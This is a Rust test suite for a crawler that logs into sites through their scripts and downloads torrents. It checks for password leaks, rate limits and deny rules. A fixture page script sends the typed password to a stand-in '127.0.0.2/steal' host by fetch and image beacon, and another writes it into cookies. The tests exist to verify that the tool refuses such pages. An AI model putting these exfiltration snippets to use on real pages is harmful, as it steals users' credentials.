//! Logins that need their page's scripts, over real sockets: forms that scripts build, forms that scripts send, and pages that misuse the
//! password. One server; each site is a folder of it.

mod sent_once;

use std::collections::HashMap;
use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::{Arc, Mutex};

use axum::Router;
use axum::body::Bytes;
use axum::extract::State;
use axum::http::{HeaderMap, Method, StatusCode, Uri, header};
use axum::response::{IntoResponse, Response};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

use crate::cli::harness::unfolded;

const PASSWORD: &str = "s3cret & grün+%";
const TORRENTS: usize = 40;

/// A page whose form is built by its script without a `form` element, waits for its fields like a framework, and posts JSON with a
/// token from another request.
const BUILT: &str = r#"
    const field = (id, type) => { const one = document.createElement('input'); one.id = id; one.type = type;
        // Like React: a value set through the object does not count as typed.
        const own = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
        Object.defineProperty(one, 'value', { configurable: true, get() { return own.get.call(this) },
            set(text) { this.tracked = text; own.set.call(this, text) } });
        one.addEventListener('input', () => { if (own.get.call(one) !== one.tracked) state[id] = own.get.call(one); ready() });
        return one };
    const state = {}; const go = document.createElement('button'); go.textContent = 'Sign in'; go.disabled = true;
    const ready = () => { go.disabled = !(state.user && state.pass) };
    const said = document.createElement('p');
    fetch('api/csrf').then(r => r.json()).then(csrf => {
        const app = document.getElementById('app');
        app.append('User name', field('user', 'text'), 'Password', field('pass', 'password'), go, said);
        go.addEventListener('click', async () => {
            const r = await fetch('api/login', { method: 'POST', headers: { 'Content-Type': 'application/json', 'X-CSRF': csrf.token },
                body: JSON.stringify({ user: state.user, password: state.pass }) });
            if (r.ok) location = './'; else said.textContent = 'Wrong password';
        });
    });"#;

/// A form without an action, whose handler sends two hashes instead of the password.
const HASHED: &str = r#"
    function md5(text) {
        var i, k = [], s = [7, 12, 17, 22, 5, 9, 14, 20, 4, 11, 16, 23, 6, 10, 15, 21];
        for (i = 0; i < 64; i++) k[i] = Math.floor(Math.abs(Math.sin(i + 1)) * 4294967296) | 0;
        var bytes = unescape(encodeURIComponent(text)).split('').map(function (c) { return c.charCodeAt(0); });
        var bits = bytes.length * 8; bytes.push(128);
        while (bytes.length % 64 != 56) bytes.push(0);
        for (i = 0; i < 8; i++) bytes.push(i < 4 ? (bits >>> (8 * i)) & 255 : 0);
        var h = [0x67452301, 0xefcdab89 | 0, 0x98badcfe | 0, 0x10325476];
        for (var o = 0; o < bytes.length; o += 64) {
            var m = [], a = h[0], b = h[1], c = h[2], d = h[3], f, g;
            for (i = 0; i < 16; i++) m[i] = bytes[o + 4 * i] | bytes[o + 4 * i + 1] << 8 | bytes[o + 4 * i + 2] << 16 | bytes[o + 4 * i + 3] << 24;
            for (i = 0; i < 64; i++) {
                if (i < 16) { f = b & c | ~b & d; g = i; } else if (i < 32) { f = d & b | ~d & c; g = (5 * i + 1) % 16; }
                else if (i < 48) { f = b ^ c ^ d; g = (3 * i + 5) % 16; } else { f = c ^ (b | ~d); g = 7 * i % 16; }
                f = f + a + k[i] + m[g] | 0; a = d; d = c; c = b;
                var r = s[(i >> 4) * 4 + i % 4]; b = b + (f << r | f >>> 32 - r) | 0;
            }
            h = [h[0] + a | 0, h[1] + b | 0, h[2] + c | 0, h[3] + d | 0];
        }
        return h.map(function (n) { var t = ''; for (var j = 0; j < 4; j++) t += ('0' + (n >>> 8 * j & 255).toString(16)).slice(-2); return t; }).join('');
    }
    function seal(form) { form.sealed.value = md5(form.salt.value + md5(form.pass.value)); form.pass.value = ''; return true; }"#;

/// A page that sends its password to another host, to its console and in an error.
const FOREIGN: &str = r#"document.getElementById('go').onclick = () => { const secret = document.getElementById('pass').value;
    console.log(secret, btoa(unescape(encodeURIComponent(secret))));
    fetch('http://127.0.0.2:PORT/steal', { method: 'POST', body: secret });
    new Image().src = 'http://127.0.0.2:PORT/steal?' + encodeURIComponent(secret);
    throw new Error('sent ' + secret + ' ' + encodeURIComponent(secret)) };"#;

/// A page that checks the name as it is typed, and writes the password into cookies.
const TYPED: &str = r#"for (const of of [user, pass]) for (const kind of ['keydown', 'input', 'change', 'blur'])
        of.addEventListener(kind, () => fetch('check-' + kind, { method: 'POST', body: of.value }).catch(() => 0));
    go.onclick = async () => { document.cookie = 'p=' + encodeURIComponent(pass.value) + '; path=/';
        document.cookie = 'q=' + btoa(unescape(encodeURIComponent(pass.value))) + '; path=/'; document.cookie = 'seen=1; path=/';
        const r = await fetch('in', { method: 'POST', body: user.value + '\n' + pass.value }); if (r.ok) location = './' };"#;

/// A page whose scripts send requests one after the other.
const READS: &str = r#"const reads = () => fetch('api/a').catch(() => 0).then(() => fetch('api/b')).catch(() => 0);"#;

/// A form whose handler sends an additional field, and logs it.
const FIELDS: &str = r#"function send(form) {
        console.log(form.colour.value); setTimeout(() => { throw new Error('colour ' + form.colour.value + ' ' + encodeURIComponent(form.colour.value)) });
        fetch('in?c=1', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({
            user: form.user.value, pass: form.pass.value, colour: form.colour.value }) }).then(() => location = './');
        return false }"#;
/// A page that encrypts the input with a new number each time.
const CODED: &str = r#"go.onclick = () => { const hex = bytes => bytes.map(byte => ('0' + byte.toString(16)).slice(-2)).join('');
        const salt = Array.from({ length: 8 }, () => Math.floor(Math.random() * 256));
        const typed = unescape(encodeURIComponent(pass.value)).split('').map((letter, at) => letter.charCodeAt(0) ^ salt[at % 8]);
        fetch('in', { method: 'POST', body: JSON.stringify({ user: user.value, salt: hex(salt), sealed: hex(typed) }) })
            .then(r => { if (r.ok) location = './' }).catch(() => 0) };"#;
const COLOUR: &str = "veilchenblau & 7391+%";

/// The state of a site.
#[derive(Default)]
struct Place {
    session: Option<u64>,
    sessions: u64,
    answers: u64,
    logins: u64,
    wrong: u64,
    ended: u64,
    log: Vec<(Method, String)>,
}

#[derive(Default)]
struct Web {
    places: Mutex<HashMap<String, Place>>,
    /// Requests to the foreign host.
    stolen: Mutex<Vec<String>>,
    port: Mutex<u16>,
}

/// Decodes the output of `CODED`.
fn decoded(body: &str) -> Option<Vec<u8>> {
    let body: serde_json::Value = serde_json::from_str(body).ok()?;
    let bytes = |name: &str| {
        let text = body.get(name)?.as_str()?;
        (0..text.len() / 2)
            .map(|at| u8::from_str_radix(text.get(2 * at..2 * at + 2)?, 16).ok())
            .collect::<Option<Vec<u8>>>()
    };
    let (salt, sealed) = (bytes("salt")?, bytes("sealed")?);
    Some(sealed.iter().enumerate().map(|(at, byte)| byte ^ salt[at % salt.len()]).collect())
}

fn page(text: String) -> Response {
    ([(header::CONTENT_TYPE, "text/html; charset=utf-8")], text).into_response()
}

fn script(text: String) -> Response {
    ([(header::CONTENT_TYPE, "text/javascript; charset=utf-8")], text).into_response()
}

fn hex_md5(bytes: &[u8]) -> String {
    use md5::Digest as _;
    md5::Md5::digest(bytes).iter().map(|byte| format!("{byte:02x}")).collect()
}

const LOOSE: &str =
    "<div>User name <input id=user> Password <input id=pass type=password><button id=go>Log in</button></div>";

async fn answer(State(web): State<Arc<Web>>, method: Method, uri: Uri, headers: HeaderMap, body: Bytes) -> Response {
    let text = |name: header::HeaderName| headers.get(name).and_then(|value| value.to_str().ok()).unwrap_or_default();
    if text(header::HOST).starts_with("127.0.0.2") {
        web.stolen.lock().unwrap().push(uri.to_string());
        return StatusCode::OK.into_response();
    }
    if uri.path() == "/robots.txt" {
        return StatusCode::NOT_FOUND.into_response();
    }
    let (site, path) = uri.path().trim_start_matches('/').split_once('/').unwrap_or(("", ""));
    if (&method, site, path) == (&Method::POST, "lost", "in") {
        let is_first = {
            let mut places = web.places.lock().unwrap();
            let log = &mut places.entry(site.to_owned()).or_default().log;
            log.push((method, path.to_owned()));
            log.iter().filter(|(method, _)| *method == Method::POST).count() == 1
        };
        if is_first {
            // The sender is killed before this is over.
            tokio::time::sleep(std::time::Duration::from_secs(60)).await;
        }
        return page("Wrong password".to_owned());
    }
    if method == Method::POST && site.starts_with("coded-") {
        let is_first = {
            let mut places = web.places.lock().unwrap();
            let log = &mut places.entry(site.to_owned()).or_default().log;
            let is_first = !log.iter().any(|(method, _)| *method == Method::POST);
            log.extend(is_first.then(|| (method.clone(), path.to_owned())));
            is_first
        };
        match site {
            "coded-killed" if is_first => {
                // The sender is killed before this is over.
                tokio::time::sleep(std::time::Duration::from_secs(60)).await;
                return StatusCode::OK.into_response();
            }
            "coded-dropped" if is_first => {
                let broken = futures_util::stream::iter([Ok("{"), Err(std::io::Error::other("the line is cut"))]);
                return axum::body::Body::from_stream(broken).into_response();
            }
            "coded-limited" if is_first => {
                return (StatusCode::TOO_MANY_REQUESTS, [(header::RETRY_AFTER, "36000")], "slow down").into_response();
            }
            _ => {}
        }
    }
    let mut places = web.places.lock().unwrap();
    let place = places.entry(site.to_owned()).or_default();
    place.log.push((method.clone(), path.to_owned()));
    let cookies = text(header::COOKIE);
    let number = |mark: &str, of: &str| {
        let rest = of.split_once(mark)?.1;
        rest.split(|of: char| !of.is_ascii_digit()).next()?.parse::<u64>().ok()
    };
    let shown = if site == "bearer" { number("Bearer ", text(header::AUTHORIZATION)) } else { number("sid=", cookies) };
    let has_leaked = cookies.split("; ").any(|cookie| cookie.starts_with("p="));
    let mut is_member = shown.is_some() && shown == place.session && !has_leaked;
    let is_wanted = path.is_empty() || path.ends_with(".torrent");
    if is_member && is_wanted {
        place.answers += 1;
        if place.answers > 25 {
            (is_member, place.session) = (false, None);
            place.ended += 1;
        }
    }
    let body = String::from_utf8_lossy(&body).into_owned();
    let port = *web.port.lock().unwrap();
    let logins_before = place.logins;
    let mut judge = |is_right: bool| {
        if !is_right {
            place.wrong += 1;
            return None;
        }
        place.logins += 1;
        place.sessions += 1;
        (place.session, place.answers) = (Some(place.sessions), 0);
        Some(place.sessions)
    };
    match (method, site, path) {
        (Method::GET, "built", "login") => page("<title>Log in</title><div id=app></div><script src=app.js></script>".to_owned()),
        (Method::GET, "built", "app.js") => script(BUILT.to_owned()),
        (Method::GET, "built", "api/csrf") => {
            let json = [(header::CONTENT_TYPE, "application/json"), (header::SET_COOKIE, "csrf=t0; Path=/built; HttpOnly")];
            (json, r#"{"token":"t0"}"#).into_response()
        }
        (Method::POST, "built" | "bearer", "api/login") => {
            let is_guarded = site == "bearer" || (text(header::HeaderName::from_static("x-csrf")) == "t0" && cookies.contains("csrf=t0"));
            let expected = serde_json::json!({ "user": "anna", "password": PASSWORD });
            let is_right = is_guarded && serde_json::from_str::<serde_json::Value>(&body).is_ok_and(|body| body == expected);
            match (judge(is_right), site) {
                (None, _) => (StatusCode::UNAUTHORIZED, r#"{"error":"no"}"#).into_response(),
                (Some(session), "bearer") => format!(r#"{{"token":"{session}"}}"#).into_response(),
                (Some(session), _) => ([(header::SET_COOKIE, format!("sid={session}; Path=/built; HttpOnly"))], "{}").into_response(),
            }
        }
        (Method::GET, "bearer", "login") => page(format!("<title>Log in</title>{LOOSE}<script src=app.js></script>")),
        (Method::GET, "bearer", "app.js") => script(
            "go.onclick = () => fetch('api/login', { method: 'POST', body: JSON.stringify({ user: user.value, password: pass.value }) })
                .then(r => r.json()).then(d => { localStorage.token = d.token;
                    return fetch('api/me', { headers: { Authorization: 'Bearer ' + d.token } }) }).then(r => location = './');"
                .to_owned(),
        ),
        (Method::GET, "bearer", "api/me") if is_member => r#"{"name":"anna"}"#.into_response(),
        (Method::GET, "hashed", "login") => page(
            "<title>Log in</title><form method=post onsubmit='return seal(this)'>User name <input name=user>\
             Password <input type=password name=pass><input type=hidden name=salt value=5a17><input type=hidden name=sealed>\
             <input type=submit value='Log in'></form><script src=md5.js></script>"
                .to_owned(),
        ),
        (Method::GET, "hashed", "md5.js") => script(HASHED.to_owned()),
        (Method::POST, "hashed", "login") => {
            let sealed = hex_md5(format!("5a17{}", hex_md5(PASSWORD.as_bytes())).as_bytes());
            match judge(body == format!("user=anna&pass=&salt=5a17&sealed={sealed}")) {
                Some(session) => {
                    let cookie = format!("sid={session}; Path=/hashed; HttpOnly");
                    (StatusCode::FOUND, [(header::SET_COOKIE, cookie.as_str()), (header::LOCATION, "/hashed/")]).into_response()
                }
                None => page("Wrong password. <form method=post onsubmit='return seal(this)'><input name=user><input type=password name=pass></form>".to_owned()),
            }
        }
        (Method::GET, "foreign", "login") => page(format!("{LOOSE}<script>{}</script>", FOREIGN.replace("PORT", &port.to_string()))),
        (Method::GET, "silent", "login") => {
            page(format!("{LOOSE}<script>go.onclick = () => {{ throw new Error('no ' + pass.value) }}</script>"))
        }
        (Method::GET, "leaks", "login") => page(format!("{LOOSE}<script>go.onclick = () => {{ location = 'in?p=' + encodeURIComponent(pass.value) }}</script>")),
        (Method::GET, "query", "login") => page(format!(
            "{LOOSE}<script>go.onclick = () => fetch('in?p=' + encodeURIComponent(pass.value), {{ method: 'POST', body: 'x' }})</script>"
        )),
        (Method::GET, "loaded", "login") => {
            page(format!("{LOOSE}<form id=other method=post action=in></form><script>other.submit()</script>"))
        }
        (Method::GET, "typed", "login") => page(format!("<title>Log in</title>{LOOSE}<script>{TYPED}</script>")),
        (Method::POST, "typed", "in") => match judge(body == format!("anna\n{PASSWORD}")) {
            Some(session) => ([(header::SET_COOKIE, format!("sid={session}; Path=/typed; HttpOnly"))], "{}").into_response(),
            None => (StatusCode::UNAUTHORIZED, "no").into_response(),
        },
        (Method::GET, "twice", "login") => page(format!(
            "{LOOSE}<script>fetch('early', {{ method: 'POST' }}).catch(() => 0); go.onclick = () => {{ \
             for (let n = 0; n < 5; n++) fetch('in' + n, {{ method: 'POST', body: pass.value }}).catch(() => 0) }}</script>"
        )),
        (Method::POST, "twice", _) => {
            judge(false);
            (StatusCode::UNAUTHORIZED, "no").into_response()
        }
        (Method::GET, "slow" | "busy", "login") => page(format!(
            "<title>Log in</title>{LOOSE}<script>{READS} reads(); go.onclick = () => fetch('in', {{ method: 'POST', body: pass.value }})</script>"
        )),
        (Method::GET, "behind", "login") => page(format!(
            "<title>Log in</title>{LOOSE}<script>{READS} go.onclick = () => fetch('in', {{ method: 'POST', body: pass.value }}).then(reads)\
             .then(() => location = 'elsewhere')</script>"
        )),
        (Method::POST, "behind", "in") => match judge(body == PASSWORD) {
            Some(session) => ([(header::SET_COOKIE, format!("sid={session}; Path=/behind; HttpOnly"))], "{}").into_response(),
            None => (StatusCode::UNAUTHORIZED, "no").into_response(),
        },
        (Method::GET, "slow" | "busy" | "behind", "api/a") => {
            let status = if site == "busy" { StatusCode::SERVICE_UNAVAILABLE } else { StatusCode::TOO_MANY_REQUESTS };
            (status, [(header::RETRY_AFTER, "36000")], "slow down").into_response()
        }
        (Method::GET, "fields", "login") => page(format!(
            "<title>Log in</title><form onsubmit='return send(this)'>User name <input name=user>Password <input type=password name=pass>\
             Colour <input name=colour><input type=submit value='Log in'></form><script>{FIELDS}</script>"
        )),
        (Method::POST, "fields", "in?c=1" | "in") => {
            let expected = serde_json::json!({ "user": "anna", "pass": PASSWORD, "colour": COLOUR });
            match judge(serde_json::from_str::<serde_json::Value>(&body).is_ok_and(|body| body == expected)) {
                Some(session) => ([(header::SET_COOKIE, format!("sid={session}; Path=/fields; HttpOnly"))], "{}").into_response(),
                None => (StatusCode::UNAUTHORIZED, "no").into_response(),
            }
        }
        (Method::GET, "lost", "login") => page(
            "<title>Log in</title><form id=f method=post action=in>User name <input name=user>Password <input type=password name=pass>\
             <input type=submit value='Log in'></form><script src=md5.js></script>"
                .to_owned(),
        ),
        (Method::GET, "lost", "md5.js") => script(
            "f.addEventListener('submit', e => { e.preventDefault(); fetch('in', { method: 'POST', body: f.pass.value }) })".to_owned(),
        ),
        (Method::GET, of, "login") if of.starts_with("coded-") => page(format!("<title>Log in</title>{LOOSE}<script>{CODED}</script>")),
        (Method::POST, of, "in") if of.starts_with("coded-") => match judge(decoded(&body).is_some_and(|of| of == PASSWORD.as_bytes())) {
            Some(session) => ([(header::SET_COOKIE, format!("sid={session}; Path=/{site}; HttpOnly"))], "{}").into_response(),
            None => (StatusCode::UNAUTHORIZED, "no").into_response(),
        },
        (Method::GET, "hops", "login") => page(format!(
            "<title>Log in</title>{LOOSE}<script>go.onclick = () => fetch('hop').catch(() => 0).then(() => \
             fetch('in', {{ method: 'POST', body: pass.value }})).catch(() => 0)</script>"
        )),
        (Method::GET, "hops", "hop") => (StatusCode::FOUND, [(header::LOCATION, "/hops/hop2")]).into_response(),
        (Method::GET, "hops", "hop2") => (StatusCode::FOUND, [(header::LOCATION, "/hops/closed/a")]).into_response(),
        (Method::POST, "hops", "in") => (StatusCode::SEE_OTHER, [(header::LOCATION, "/hops/closed/b")]).into_response(),
        (Method::GET, "told-failed" | "told-locked" | "told-json", "login") => {
            let said = if site == "told-locked" { "Account locked." } else { "Login failed." };
            page(format!(
                "<title>Log in</title>{LOOSE}<p id=said></p><script>go.onclick = () => fetch('in', {{ method: 'POST', body: pass.value }})\
                 .then(r => {{ if (r.ok) location = './'; else said.textContent = '{said}' }})</script>"
            ))
        }
        // Accepted once, and rejected from then on.
        (Method::POST, "told-failed" | "told-locked" | "told-json", "in") => match logins_before {
            0 if judge(body == PASSWORD).is_some() => {
                ([(header::SET_COOKIE, format!("sid=1; Path=/{site}; HttpOnly"))], "{}").into_response()
            }
            _ if site == "told-json" => (StatusCode::UNAUTHORIZED, r#"{"error":"login_failed"}"#).into_response(),
            _ => (StatusCode::UNAUTHORIZED, "{}").into_response(),
        },
        (Method::GET, "plain", "login") => page(
            "<form method=post action=in>User name <input name=user>Password <input type=password name=pass>\
             <input type=submit value='Log in'></form><script src=app.js></script>"
                .to_owned(),
        ),
        (Method::POST, "plain", "in") => {
            let is_right = url::form_urlencoded::parse(body.as_bytes()).any(|(name, value)| name == "pass" && value == PASSWORD);
            judge(is_right).map_or_else(
                || page("Wrong password".to_owned()),
                |session| {
                    let cookie = format!("sid={session}; Path=/plain; HttpOnly");
                    (StatusCode::FOUND, [(header::SET_COOKIE, cookie.as_str()), (header::LOCATION, "/plain/")]).into_response()
                },
            )
        }
        (Method::GET, _, path) if is_member && path.ends_with(".torrent") => {
            let name = format!("{site}-{path}").replace('/', "-");
            let torrent = format!("d4:infod6:lengthi4e4:name{}:{name}12:piece lengthi16384e6:pieces20:aaaaaaaaaaaaaaaaaaaaee", name.len());
            ([(header::CONTENT_TYPE, "application/x-bittorrent")], torrent).into_response()
        }
        (Method::GET, _, "") if is_member => {
            let links: String = (0..TORRENTS).map(|number| format!("<a href=dl/{number}.torrent>{number}</a> ")).collect();
            page(format!("<a href=logout>Log out [ anna ]</a>{links}"))
        }
        (Method::GET, _, path) if is_wanted || path == "in" => {
            (StatusCode::FOUND, [(header::LOCATION, format!("/{site}/login"))]).into_response()
        }
        _ => StatusCode::NOT_FOUND.into_response(),
    }
}

struct Stage {
    web: Arc<Web>,
    site: &'static str,
    folder: tempfile::TempDir,
    _runtime: tokio::runtime::Runtime,
}

impl Stage {
    /// The server, and the rule file of one site with these lines in it.
    fn new(site: &'static str, lines: &str) -> Self {
        Self::with(site, "", lines, "")
    }

    /// The same, with `top` above all tables and `rate` among its own lines.
    fn with(site: &'static str, top: &str, lines: &str, rate: &str) -> Self {
        let runtime = tokio::runtime::Runtime::new().unwrap();
        let web = Arc::<Web>::default();
        let app = Router::new().fallback(answer).with_state(Arc::clone(&web));
        let listener = runtime.block_on(tokio::net::TcpListener::bind("127.0.0.1:0")).unwrap();
        let port = listener.local_addr().unwrap().port();
        *web.port.lock().unwrap() = port;
        // The foreign host would receive what is sent to it.
        let foreign = runtime.block_on(tokio::net::TcpListener::bind(("127.0.0.2", port))).unwrap();
        let of_foreign = app.clone();
        runtime.spawn(async move { axum::serve(listener, app).await.unwrap() });
        runtime.spawn(async move { axum::serve(foreign, of_foreign).await.unwrap() });
        let folder = tempfile::tempdir().unwrap();
        fs::create_dir(folder.path().join("rules")).unwrap();
        let rules = format!(
            "start = ['http://127.0.0.1:{port}/{site}/']\n{top}\n[login]\nuser = 'anna'\n{lines}\n[classes]\nindex = ['^/{site}/$']\n\
             download = ['\\.torrent$']\npage = ['.']\n[rate]\nrequests_per_second = 1000000\nrest_factor = 0\n{rate}\n"
        );
        fs::write(folder.path().join("rules/site.toml"), rules).unwrap();
        let stage = Self { web, site, folder, _runtime: runtime };
        stage.set_password(PASSWORD);
        stage
    }

    fn data(&self) -> PathBuf {
        self.folder.path().join("data")
    }

    fn set_password(&self, password: &str) {
        let folder = self.data().join("secrets");
        fs::create_dir_all(&folder).unwrap();
        fs::write(folder.join("site"), format!("{password}\n")).unwrap();
        fs::set_permissions(folder.join("site"), fs::Permissions::from_mode(0o600)).unwrap();
    }

    fn command(&self, arguments: &[&str]) -> Command {
        let mut command = Command::new(env!("CARGO_BIN_EXE_gleaner"));
        command.args(arguments).arg("--data").arg(self.data()).arg("--rules").arg(self.folder.path().join("rules"));
        command.env_remove("CREDENTIALS_DIRECTORY").env("GLEANER_LOG", "trace");
        command
    }

    fn run(&self, arguments: &[&str]) -> (Output, String) {
        let output = self.command(arguments).output().unwrap();
        let told = format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
        for secret in forms(PASSWORD) {
            assert!(!told.contains(&secret), "{secret} is told:\n{told}");
        }
        (output, told)
    }

    fn of<T>(&self, what: impl FnOnce(&Place) -> T) -> T {
        what(self.web.places.lock().unwrap().entry(self.site.to_owned()).or_default())
    }

    fn posts(&self) -> usize {
        self.of(|place| place.log.iter().filter(|(method, _)| *method == Method::POST).count())
    }

    fn asked(&self, path: &str) -> usize {
        self.of(|place| place.log.iter().filter(|(_, asked)| asked == path).count())
    }
}

/// A secret in the forms in which a page might reveal it.
fn forms(secret: &str) -> Vec<String> {
    vec![
        secret.to_owned(),
        url::form_urlencoded::byte_serialize(secret.as_bytes()).collect(),
        percent_encoding::utf8_percent_encode(secret, percent_encoding::NON_ALPHANUMERIC).to_string(),
        STANDARD.encode(secret),
        hex_md5(secret.as_bytes()),
    ]
}

fn torrents(folder: &Path) -> usize {
    let Ok(entries) = fs::read_dir(folder) else { return 0 };
    let of = |path: PathBuf| match path.is_dir() {
        true => torrents(&path),
        false => usize::from(path.extension().is_some_and(|of| of == "torrent")),
    };
    entries.map(|entry| of(entry.unwrap().path())).sum()
}

#[test]
fn a_form_that_scripts_build_logs_in_and_is_told_step_by_step() {
    let stage = Stage::new("built", "");
    let (login, told) = stage.run(&["login", "site", "-vv"]);
    assert!(login.status.success(), "{told}");
    for part in [
        "has no form without its scripts: rendered, 1 form",
        "user=anna  pass=••••••",
        "scripts send it: POST http://127.0.0.1",
        "/built/api/login (JSON: password=••••••  user=anna)",
        "proof: ",
    ] {
        assert!(told.contains(part), "{part} is missing in\n{told}");
    }
    assert_eq!(stage.posts(), 1);
}

#[test]
fn a_handler_that_hashes_is_run_where_its_form_has_no_action() {
    let stage = Stage::new("hashed", "");
    let (login, told) = stage.run(&["login", "site", "-vv"]);
    assert!(login.status.success(), "{told}");
    assert!(told.contains("its form needs scripts (") && told.contains("rendered, 1 form"), "{told}");
    assert_eq!((stage.posts(), stage.of(|place| place.logins)), (1, 1), "{told}");
}

#[test]
fn crawls_survive_sessions_that_end_with_one_login_each() {
    for (site, lines) in [("built", ""), ("hashed", ""), ("bearer", "probe = '/bearer/api/me'\npage = '/bearer/login'")]
    {
        let stage = Stage::with(site, "", lines, "connections = 16");
        let (crawl, told) = stage.run(&["crawl", "site"]);
        assert!(crawl.status.success(), "{site}: {told}");
        assert_eq!(torrents(&stage.data().join("torrents")), TORRENTS, "{site}: {told}");
        let (logins, wrong, ended) = stage.of(|place| (place.logins, place.wrong, place.ended));
        assert!(ended >= 1, "{site}: no session ended");
        assert_eq!((logins, wrong, stage.posts() as u64), (ended + 1, 0, ended + 1), "{site}: {told}");
    }
}

/// Credentials that were accepted before are held at once after a message from a script beside its form, or from an API.
#[test]
fn that_the_login_failed_or_the_account_is_locked_is_told_by_scripts_as_well() {
    for (site, told_as) in [
        ("told-failed", "the site has probably refused"),
        ("told-json", "the user name or the password is wrong"),
        ("told-locked", "the account or the address is locked"),
    ] {
        let stage = Stage::new(site, "");
        let (login, told) = stage.run(&["login", "site", "-vv"]);
        assert!(login.status.success() && stage.posts() == 1, "{site}: {told}");
        stage.web.places.lock().unwrap().get_mut(site).unwrap().session = None;
        for again in ["login", "login", "crawl"] {
            let (login, told) = stage.run(&[again, "site", "-vv"]);
            assert_eq!((login.status.code(), stage.posts()), (Some(1), 2), "{site}, {again}: {told}");
        }
        let (_, told) = stage.run(&["status"]);
        assert!(unfolded(&told).contains(told_as), "{site}: {told}");
    }
}

#[test]
fn a_password_for_another_host_or_an_address_never_leaves() {
    for (site, reason) in [
        ("foreign", "would have sent the password to 127.0.0.2"),
        ("leaks", "its scripts would write the password into a URL"),
        ("query", "its URL carries the password"),
        ("loaded", "its scripts sent nothing when the form was submitted"),
        ("silent", "its scripts sent nothing when the form was submitted (a script failed: Error: no ••••••)"),
    ] {
        let stage = Stage::new(site, &format!("page = '/{site}/login'"));
        let (login, told) = stage.run(&["login", "site", "-vv"]);
        assert_eq!(login.status.code(), Some(1), "{site}: {told}");
        assert!(told.contains(reason), "{site}: {told}");
        assert_eq!((stage.posts(), stage.asked("in")), (0, 0), "{site}: {told}");
        let stolen = stage.web.stolen.lock().unwrap();
        assert!(stolen.is_empty(), "{stolen:?}");
    }
}

#[test]
fn forms_that_need_no_scripts_are_sent_without_and_never_is_obeyed() {
    let stage = Stage::new("plain", "");
    let (login, told) = stage.run(&["login", "site", "-vv"]);
    assert!(login.status.success(), "{told}");
    assert_eq!(stage.asked("app.js"), 0, "its scripts are nobody's business");
    let stage = Stage::new("built", "[render]\nlogin = 'never'");
    let (login, told) = stage.run(&["login", "site", "-vv"]);
    assert_eq!((login.status.code(), stage.asked("app.js"), stage.posts()), (Some(1), 0, 0), "{told}");
}

#[test]
fn behind_an_answer_that_asks_for_patience_scripts_ask_nothing_more_and_the_wait_is_kept() {
    for (site, status) in [("slow", 429), ("busy", 503)] {
        let stage = Stage::new(site, &format!("page = '/{site}/login'"));
        let (login, told) = stage.run(&["login", "site", "-vv"]);
        assert_eq!(login.status.code(), Some(1), "{site}: {told}");
        assert!(told.contains(&format!("/{site}/api/a answers {status}")), "{site}: {told}");
        assert_eq!((stage.asked("api/a"), stage.asked("api/b"), stage.posts()), (1, 0, 0), "{site}: {told}");

        let stage = Stage::new(site, &format!("page = '/{site}/login'"));
        for _ in 0..2 {
            let (crawl, told) = stage.run(&["crawl", "site"]);
            assert_eq!(crawl.status.code(), Some(1), "{site}: {told}");
            // The second crawl waits, too, and requests nothing.
            assert_eq!((stage.asked("api/a"), stage.asked("api/b"), stage.posts()), (1, 0, 0), "{site}: {told}");
            assert_eq!(stage.asked("login"), 1, "{site}: {told}");
        }
        let (_, told) = stage.run(&["status"]);
        assert!(told.contains("waits until") || told.contains("paused until"), "{site}: {told}");
    }
    let stage = Stage::new("behind", "page = '/behind/login'");
    let (login, told) = stage.run(&["login", "site", "-vv"]);
    assert!(login.status.success(), "{told}");
    let asked = (stage.asked("api/a"), stage.asked("api/b"), stage.asked("elsewhere"), stage.posts());
    assert_eq!(asked, (1, 0, 0, 1), "{told}");
}

#[test]
fn nothing_of_the_rule_files_fields_is_told() {
    let stage = Stage::new("fields", &format!("page = '/fields/login'\nfields = {{ colour = '{COLOUR}' }}"));
    let hidden = |told: &str| {
        for form in forms(COLOUR) {
            assert!(!told.contains(&form), "{form} is told:\n{told}");
        }
        assert!(!told.contains("veilchenblau"), "{told}");
    };
    let (login, told) = stage.run(&["login", "site", "-vv"]);
    assert!(login.status.success(), "{told}");
    assert!(told.contains("colour=••••••"), "{told}");
    hidden(&told);
    let (crawl, told) = stage.run(&["crawl", "site", "-vv"]);
    assert!(crawl.status.success(), "{told}");
    hidden(&told);
    let (login, told) = stage.run(&["login", "site", "-vv", "--json"]);
    assert!(login.status.success(), "{told}");
    hidden(&told);
}

#[test]
fn deny_holds_on_each_hop_of_what_a_script_asks() {
    let stage = Stage::with("hops", "deny = ['/closed/']", "page = '/hops/login'", "");
    let (login, told) = stage.run(&["login", "site", "-vv"]);
    assert_eq!(login.status.code(), Some(1), "{told}");
    assert_eq!((stage.asked("hop"), stage.asked("hop2"), stage.posts()), (1, 1, 1), "{told}");
    assert_eq!((stage.asked("closed/a"), stage.asked("closed/b")), (0, 0), "{told}");
}

#[test]
fn the_pause_before_a_login_by_scripts_is_told_and_no_step_twice() {
    let stage = Stage::new("built", "");
    let (login, told) = stage.run(&["login", "site", "-v"]);
    assert!(login.status.success(), "{told}");
    let at = |wanted: &str| told.find(wanted).unwrap_or_else(|| panic!("`{wanted}` is missing in {told}"));
    assert!(at("waiting 2 s before sending, as a person would") < at("scripts send it: POST "), "{told}");
    for once in ["waiting 2 s", "scripts send it: POST ", "page of the form: "] {
        assert_eq!(told.matches(once).count(), 1, "{once}: {told}");
    }
}
